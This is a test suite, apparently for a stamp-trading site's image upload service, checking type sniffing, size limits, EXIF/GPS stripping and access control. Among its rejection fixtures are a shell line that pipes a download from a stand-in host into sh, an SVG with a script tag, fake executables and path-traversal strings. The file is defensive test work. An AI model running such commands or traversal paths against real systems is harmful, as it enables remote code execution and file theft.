import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { count, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { messages } from '../../src/api/contracts/messages';
import type { UploadReply } from '../../src/api/contracts/profile';
import { uploads, users } from '../../server/src/db/schema';
import { MemoryImageStorage } from '../../server/src/storage/image-storage';
import { LocalFolderStorage } from '../../server/src/storage/local-folder-storage';
import { buildTestApp, login, type TestApp } from './helpers';
import { picture, upload } from './upload-helpers';

/**
 * Uploads (docs/adr/0022): the bytes decide the type, nothing over 5 MB is read or stored, every image is re-encoded
 * without its metadata, identity papers are readable by their owner and platform staff only.
 */
let t: TestApp;
const storage = new MemoryImageStorage();
let wang: string;
let zhou: string;
let staff: string;
beforeAll(async () => {
  t = await buildTestApp({ storage });
  [wang, zhou, staff] = [(await login(t, '邮友小王')).token, (await login(t, '老周邮票')).token, (await login(t, '平台客服')).token];
});
afterAll(() => t.close());

const rowOf = async (key: string) => (await t.db.select().from(uploads).where(eq(uploads.key, key)))[0];
const uploadCount = async () => (await t.db.select({ n: count() }).from(uploads))[0]!.n;
const read = (url: string, token?: string) => t.app.inject({ method: 'GET', url, headers: token ? { token } : {} });

/** The tags of the EXIF GPS directory, none without one: just enough TIFF reading for the test. */
function gpsTags(exif: Buffer | undefined): number[] {
  if (!exif) return [];
  const tiff = exif.subarray(exif.subarray(0, 6).toString('latin1') === 'Exif\0\0' ? 6 : 0);
  const little = tiff.toString('latin1', 0, 2) === 'II';
  const u16 = (at: number) => (little ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const u32 = (at: number) => (little ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
  const entries = (ifd: number) => Array.from({ length: u16(ifd) }, (_, i) => ({ tag: u16(ifd + 2 + i * 12), value: u32(ifd + 10 + i * 12) }));
  const gps = entries(u32(4)).find((entry) => entry.tag === 0x8825);
  return gps ? entries(gps.value).map((entry) => entry.tag) : [];
}

describe('receiving an image', () => {
  it('accepts a PNG and a JPEG, re-encoded to WEBP within their kind’s size (papers up to 4,000 px), and records who sent what', async () => {
    const png = await upload<UploadReply>(t, '/api/upload/identityImage', { bytes: await picture('png', 5000, 2000), filename: 'card.png', type: 'image/png' }, wang);
    expect([png.status, png.msg]).toEqual([200, messages.uploadSucceeded]);
    expect(png.data).toMatchObject({ width: 4000, height: 1600, url: `/api/upload/private/${png.data.key}` });
    const avatar = await upload<UploadReply>(t, '/api/upload/userImage', { bytes: await picture('jpeg', 800, 600) }, wang);
    expect(avatar.data).toMatchObject({ width: 400, height: 400, url: `/uploads/${avatar.data.key}` });
    const [me] = await t.db.select().from(users).where(eq(users.userName, '邮友小王'));
    for (const [reply, kind] of [
      [png, 'identity'],
      [avatar, 'user'],
    ] as const) {
      const stored = storage.images.get(reply.data.key)!;
      expect(stored.mime).toBe('image/webp');
      const meta = await sharp(stored.bytes).metadata();
      expect([meta.format, meta.width, meta.height]).toEqual(['webp', reply.data.width, reply.data.height]);
      expect(await rowOf(reply.data.key)).toMatchObject({
        kind,
        ownerId: me!.id,
        mime: 'image/webp',
        width: reply.data.width,
        height: reply.data.height,
        bytes: stored.bytes.length,
      });
    }
  });

  it('turns a photo upright by its EXIF orientation', async () => {
    const sideways = await sharp(await picture('jpeg', 60, 40)).withMetadata({ orientation: 6 }).toBuffer();
    const reply = await upload<UploadReply>(t, '/api/upload/identityImage', { bytes: sideways }, wang);
    expect([reply.data.width, reply.data.height]).toEqual([40, 60]);
  });

  it('strips a JPEG’s EXIF, GPS position included', async () => {
    const located = await sharp(await picture('jpeg', 320, 240))
      .withExif({
        IFD0: { Make: 'YoushiCam', Model: 'T46' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '39/1 54/1 27/1', GPSLongitudeRef: 'E', GPSLongitude: '116/1 23/1 17/1' },
      })
      .toBuffer();
    const input = await sharp(located).metadata();
    expect(gpsTags(input.exif)).toEqual(expect.arrayContaining([1, 2, 3, 4])); // the refs, latitude and longitude
    const reply = await upload<UploadReply>(t, '/api/upload/identityImage', { bytes: located }, wang);
    expect(reply.status).toBe(200);
    const stored = storage.images.get(reply.data.key)!.bytes;
    const output = await sharp(stored).metadata();
    expect([output.exif, output.xmp, output.iptc]).toEqual([undefined, undefined, undefined]);
    expect(stored.includes('YoushiCam')).toBe(false);
    expect(stored.includes('Exif')).toBe(false);
  });

  it('refuses what is not an image by its bytes, whatever its name and declared type', async () => {
    const before = await uploadCount();
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(4096, 0x90)]);
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF');
    for (const bytes of [elf, script, svg, pdf, Buffer.alloc(0)]) {
      const reply = await upload(t, '/api/upload/userImage', { bytes, filename: 'avatar.jpg', type: 'image/jpeg' }, wang);
      expect([reply.status, reply.msg]).toEqual([400, messages.onlyImagesAllowed]);
    }
    // An image's first bytes with no image after them: sniffed as a PNG, refused when decoded.
    const broken = (await picture('png', 50, 50)).subarray(0, 40);
    expect((await upload(t, '/api/upload/userImage', { bytes: broken, filename: 'a.png', type: 'image/png' }, wang)).msg).toBe(messages.imageUnreadable);
    expect(await uploadCount()).toBe(before);
  });

  it('refuses a file over 5 MB without storing anything', async () => {
    const before = [await uploadCount(), storage.images.size];
    const big = Buffer.concat([await picture('png', 10, 10), Buffer.alloc(6 * 1024 * 1024, 7)]);
    const reply = await upload(t, '/api/upload/userImage', { bytes: big, filename: 'big.png', type: 'image/png' }, wang);
    expect([reply.status, reply.msg]).toEqual([400, messages.imageTooLarge]);
    expect([await uploadCount(), storage.images.size]).toEqual(before);
  });

  it('asks for an image when the request has none, and for a login first', async () => {
    const wrongField = await upload(t, '/api/upload/userImage', { bytes: await picture('png', 10, 10), field: 'avatar' }, wang);
    expect([wrongField.status, wrongField.msg]).toEqual([400, messages.chooseImage]);
    const json = await t.app.inject({ method: 'POST', url: '/api/upload/userImage', payload: { file: 'x' }, headers: { token: wang } });
    expect([json.statusCode, json.json().msg]).toEqual([400, messages.chooseImage]);
    for (const url of ['/api/upload/userImage', '/api/upload/identityImage']) {
      expect((await upload(t, url, { bytes: await picture('png', 10, 10) })).status).toBe(401);
    }
  });
});

describe('offer photos and complaint evidence', () => {
  const photoCalls = [
    ['/api/upload/productImage', 'product'],
    ['/api/upload/complaintImage', 'complaint'],
  ] as const;
  const sizes = async () => [await uploadCount(), storage.images.size];
  /** A JPEG as a phone writes one: the camera, and where it was taken. */
  const locatedJpeg = async () =>
    sharp(await picture('jpeg', 2400, 1600))
      .withExif({
        IFD0: { Make: 'YoushiCam', Model: 'T46' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '31/1 14/1 10/1', GPSLongitudeRef: 'E', GPSLongitude: '121/1 28/1 22/1' },
      })
      .toBuffer();

  it.each(photoCalls)('%s stores a member’s photo, public, with a small thumbnail, neither keeping EXIF or GPS', async (url, kind) => {
    const located = await locatedJpeg();
    expect(gpsTags((await sharp(located).metadata()).exif)).toEqual(expect.arrayContaining([1, 2, 3, 4]));
    const reply = await upload<UploadReply>(t, url, { bytes: located, filename: 'IMG_0046.JPG', type: 'image/jpeg' }, zhou);
    expect([reply.status, reply.msg]).toEqual([200, messages.uploadSucceeded]);
    const { key } = reply.data;
    // Within 4,000 px the original keeps its own size (issue 25: the viewer shows it at full resolution).
    expect(reply.data).toEqual({ key, url: `/uploads/${key}`, thumbUrl: `/uploads/thumb/${key}`, width: 2400, height: 1600 });
    const [me] = await t.db.select().from(users).where(eq(users.userName, '老周邮票'));
    expect(await rowOf(key)).toMatchObject({ kind, ownerId: me!.id, width: 2400, height: 1600 });

    const full = await read(reply.data.url);
    const thumb = await read(reply.data.thumbUrl);
    const medium = await read(`/uploads/medium/${key}`);
    for (const served of [full, thumb, medium]) {
      expect([served.statusCode, served.headers['content-type'], served.headers['cache-control']]).toEqual([200, 'image/webp', 'public, max-age=31536000, immutable']);
      const meta = await sharp(served.rawPayload).metadata();
      expect([meta.format, meta.exif, meta.xmp, meta.iptc]).toEqual(['webp', undefined, undefined, undefined]);
      expect(gpsTags(meta.exif)).toEqual([]);
      expect(served.rawPayload.includes('YoushiCam')).toBe(false);
      expect(served.rawPayload.includes('Exif')).toBe(false);
    }
    expect(full.rawPayload.equals(storage.images.get(key)!.bytes)).toBe(true);
    const [thumbMeta, mediumMeta] = await Promise.all([sharp(thumb.rawPayload).metadata(), sharp(medium.rawPayload).metadata()]);
    expect([thumbMeta.width, thumbMeta.height, mediumMeta.width, mediumMeta.height]).toEqual([320, 213, 1200, 800]);
    expect(thumb.rawPayload.length).toBeLessThan(full.rawPayload.length / 4);
    expect(thumb.rawPayload.length).toBeLessThan(20_000);
    expect(medium.rawPayload.length).toBeLessThan(full.rawPayload.length);
  });

  it('keeps a larger photo at 4,000 px on its longest side, without its EXIF or GPS, and serves its sizes for good', async () => {
    const huge = await sharp(await picture('jpeg', 6000, 4000))
      .withExif({ IFD0: { Make: 'YoushiCam' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '31/1 14/1 10/1' } })
      .toBuffer();
    expect(huge.length).toBeLessThan(5 * 1024 * 1024);
    const reply = await upload<UploadReply>(t, '/api/upload/productImage', { bytes: huge, filename: 'IMG_0080.JPG' }, zhou);
    expect([reply.status, reply.data.width, reply.data.height]).toEqual([200, 4000, 2667]);
    const served = { original: await read(reply.data.url), thumb: await read(`/uploads/thumb/${reply.data.key}`), medium: await read(`/uploads/medium/${reply.data.key}`) };
    const sizes: Record<string, unknown> = {};
    for (const [name, response] of Object.entries(served)) {
      expect([response.statusCode, response.headers['content-type'], response.headers['cache-control']], name).toEqual([200, 'image/webp', 'public, max-age=31536000, immutable']);
      const meta = await sharp(response.rawPayload).metadata();
      expect([meta.exif, meta.xmp, response.rawPayload.includes('YoushiCam')], name).toEqual([undefined, undefined, false]);
      sizes[name] = [meta.width, meta.height];
    }
    expect(sizes).toEqual({ original: [4000, 2667], thumb: [320, 213], medium: [1200, 800] });
  });

  it('makes a variant an older photo lacks when it is first asked for, and keeps it; a variant it does not know is not found', async () => {
    const photo = await upload<UploadReply>(t, '/api/upload/productImage', { bytes: await picture('png', 1600, 1000), type: 'image/png' }, zhou);
    const mediumKey = photo.data.key.replace(/\.webp$/, '_m.webp');
    storage.images.delete(mediumKey); // as a photo stored before issue 25 had none
    const first = await read(`/uploads/medium/${photo.data.key}`);
    expect(first.statusCode).toBe(200);
    const meta = await sharp(first.rawPayload).metadata();
    expect([meta.width, meta.height]).toEqual([1200, 750]);
    expect(storage.images.get(mediumKey)!.bytes.equals(first.rawPayload)).toBe(true);
    expect((await read(`/uploads/medium/${photo.data.key}`)).rawPayload.equals(first.rawPayload)).toBe(true);
    for (const url of [`/uploads/large/${photo.data.key}`, `/uploads/original/${photo.data.key}`, `/uploads/medium/${mediumKey}`]) {
      expect((await read(url)).statusCode, url).toBe(404);
    }
  });

  it('keeps a small photo’s own size in its thumbnail, and answers an avatar’s thumbnail with the avatar', async () => {
    const small = await upload<UploadReply>(t, '/api/upload/productImage', { bytes: await picture('png', 120, 90), type: 'image/png' }, zhou);
    const meta = await sharp((await read(small.data.thumbUrl)).rawPayload).metadata();
    expect([meta.width, meta.height]).toEqual([120, 90]);
    const avatar = await upload<UploadReply>(t, '/api/upload/userImage', { bytes: await picture('png', 64, 64) }, zhou);
    expect(avatar.data.thumbUrl).toBe(avatar.data.url);
    const served = await read(`/uploads/thumb/${avatar.data.key}`);
    expect([served.statusCode, served.rawPayload.equals(storage.images.get(avatar.data.key)!.bytes)]).toEqual([200, true]);
  });

  it('serves no thumbnail of identity papers or of an unknown key, and a thumbnail’s own storage key is no upload', async () => {
    const papers = await upload<UploadReply>(t, '/api/upload/identityImage', { bytes: await picture('png', 300, 200) }, zhou);
    expect(papers.data.thumbUrl).toBe(`/api/upload/private/${papers.data.key}`);
    const photo = await upload<UploadReply>(t, '/api/upload/complaintImage', { bytes: await picture('png', 300, 200) }, zhou);
    const derived = photo.data.key.replace(/\.webp$/, '_t.webp');
    expect(storage.images.has(derived)).toBe(true);
    for (const url of [
      `/uploads/thumb/${papers.data.key}`,
      '/uploads/thumb/AAAAAAAAAAAAAAAAAAAAAAAA.webp',
      '/uploads/thumb/..%2F..%2Fetc%2Fpasswd',
      `/uploads/${derived}`,
      `/uploads/thumb/${derived}`,
    ]) {
      expect((await read(url, zhou)).statusCode, url).toBe(404);
    }
  });

  it.each(photoCalls)('%s refuses a visitor and stores nothing', async (url) => {
    const before = await sizes();
    const reply = await upload(t, url, { bytes: await picture('jpeg', 100, 100) });
    expect(reply.status).toBe(401);
    expect(await sizes()).toEqual(before);
  });

  it.each(photoCalls)('%s refuses an executable named .jpg (ELF or PE) and stores nothing', async (url) => {
    const before = await sizes();
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(4096, 0x90)]);
    // A Windows executable: the MZ header, the PE offset at 0x3c, and the PE signature there.
    const pe = Buffer.alloc(4096, 0);
    pe.write('MZ', 0, 'latin1');
    pe.writeUInt32LE(0x80, 0x3c);
    pe.write('PE\0\0', 0x80, 'latin1');
    for (const bytes of [elf, pe]) {
      const reply = await upload(t, url, { bytes, filename: 'stamp.jpg', type: 'image/jpeg' }, zhou);
      expect([reply.status, reply.msg]).toEqual([400, messages.onlyImagesAllowed]);
    }
    expect(await sizes()).toEqual(before);
  });

  it.each(photoCalls)('%s refuses a file over 5 MB and stores nothing', async (url) => {
    const before = await sizes();
    const big = Buffer.concat([await picture('jpeg', 10, 10), Buffer.alloc(5 * 1024 * 1024, 7)]);
    const reply = await upload(t, url, { bytes: big, filename: 'big.jpg', type: 'image/jpeg' }, zhou);
    expect([reply.status, reply.msg]).toEqual([400, messages.imageTooLarge]);
    expect(await sizes()).toEqual(before);
  });
});

describe('reading an image back', () => {
  it('serves avatars to anyone, with their type and a long cache', async () => {
    const { data } = await upload<UploadReply>(t, '/api/upload/userImage', { bytes: await picture('png', 100, 100) }, wang);
    const served = await read(data.url);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/webp');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    expect(served.rawPayload.equals(storage.images.get(data.key)!.bytes)).toBe(true);
    for (const url of ['/uploads/AAAAAAAAAAAAAAAAAAAAAAAA.webp', '/uploads/..%2F..%2Fetc%2Fpasswd', '/uploads/x.exe']) {
      expect((await read(url)).statusCode).toBe(404);
    }
  });

  it('shows identity papers to their owner and platform staff only; anyone else is told they do not exist', async () => {
    const { data } = await upload<UploadReply>(t, '/api/upload/identityImage', { bytes: await picture('jpeg', 300, 200) }, wang);
    for (const token of [wang, staff]) {
      const served = await read(data.url, token);
      expect([served.statusCode, served.headers['content-type'], served.headers['cache-control']]).toEqual([200, 'image/webp', 'private, no-store']);
      expect(served.rawPayload.equals(storage.images.get(data.key)!.bytes)).toBe(true);
    }
    for (const token of [zhou, undefined, 'not-a-session']) expect((await read(data.url, token)).statusCode).toBe(404);
    expect((await read(`/uploads/${data.key}`)).statusCode).toBe(404);
    // An avatar is not private: the private call does not serve it.
    const avatar = await upload<UploadReply>(t, '/api/upload/userImage', { bytes: await picture('png', 20, 20) }, wang);
    expect((await read(`/api/upload/private/${avatar.data.key}`, wang)).statusCode).toBe(404);
  });
});

describe('the local folder storage', () => {
  it('keeps files by key, reads them back, and refuses any other name', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'youshi-uploads-'));
    try {
      const folder = new LocalFolderStorage(join(dir, 'uploads'));
      const key = 'abcdefghijklmnopqrstuvwx.webp';
      expect(await folder.get(key)).toBeNull();
      await folder.put(key, Buffer.from('webp bytes'), 'image/webp');
      expect(await folder.get(key)).toEqual({ bytes: Buffer.from('webp bytes'), mime: 'image/webp' });
      expect(await readdir(join(dir, 'uploads'))).toEqual([key]);
      await expect(folder.put('../escape.webp', Buffer.from('x'), 'image/webp')).rejects.toThrow('not an upload key');
      await expect(folder.put(key, Buffer.from('x'), 'image/png')).rejects.toThrow();
      expect(await folder.get('../../etc/passwd')).toBeNull();
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
